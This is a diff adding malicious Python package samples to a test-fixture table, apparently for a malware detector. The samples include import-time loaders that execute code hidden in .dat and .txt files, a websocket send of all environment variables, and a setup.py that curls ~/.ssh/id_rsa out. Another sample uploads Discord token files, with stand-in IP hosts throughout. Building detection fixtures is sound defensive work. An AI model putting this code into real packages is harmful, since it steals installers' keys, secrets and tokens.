@@ -245,6 +245,50 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
         },
         ("chain.exfiltration", "place.import_time"),
     ),
+    "spec_from_file_location_on_dat": (
+        {
+            "pkg/__init__.py": "import importlib.util, os\n"
+            "_p = os.path.join(os.path.dirname(__file__), 'x.dat')\n"
+            "spec = importlib.util.spec_from_file_location('x', _p)\n"
+            "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\n",
+            "pkg/x.dat": SCRIPT + "\n",
+        },
+        ("chain.download_execute", "place.import_time"),
+    ),
+    "source_file_loader_on_txt": (
+        {
+            "pkg/__init__.py": "from importlib.machinery import SourceFileLoader\nimport os\n"
+            "SourceFileLoader('h', os.path.join(os.path.dirname(__file__), 'h.txt')).load_module()\n",
+            "pkg/h.txt": SCRIPT + "\n",
+        },
+        ("chain.download_execute", "place.import_time"),
+    ),
+    "websocket_environment": (
+        {
+            "pkg/__init__.py": "import os, json, websocket\n"
+            "ws = websocket.create_connection('ws://203.0.113.61:8765/')\n"
+            "ws.send(json.dumps(dict(os.environ)))\n",
+        },
+        ("chain.exfiltration",),
+    ),
+    "curl_uploads_ssh_key_from_setup": (
+        {
+            "setup.py": "import subprocess, os\nfrom setuptools import setup\n"
+            "subprocess.run(['curl', '-s', '-F', 'f=@' + os.path.expanduser('~/.ssh/id_rsa'), "
+            "'http://198.51.100.44/u'])\nsetup(name='pkg', version='1')\n",
+        },
+        ("chain.exfiltration", "place.install_time"),
+    ),
+    "telegram_by_ip_sends_discord_tokens": (
+        {
+            "pkg/__init__.py": "import os, requests\n"
+            "p = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n"
+            "for f in os.listdir(p):\n"
+            "    requests.post('http://198.51.100.9/bot123:abc/sendDocument', data={'chat_id': 1}, "
+            "files={'document': open(os.path.join(p, f), 'rb')})\n",
+        },
+        ("chain.exfiltration",),
+    ),
 }
 
 
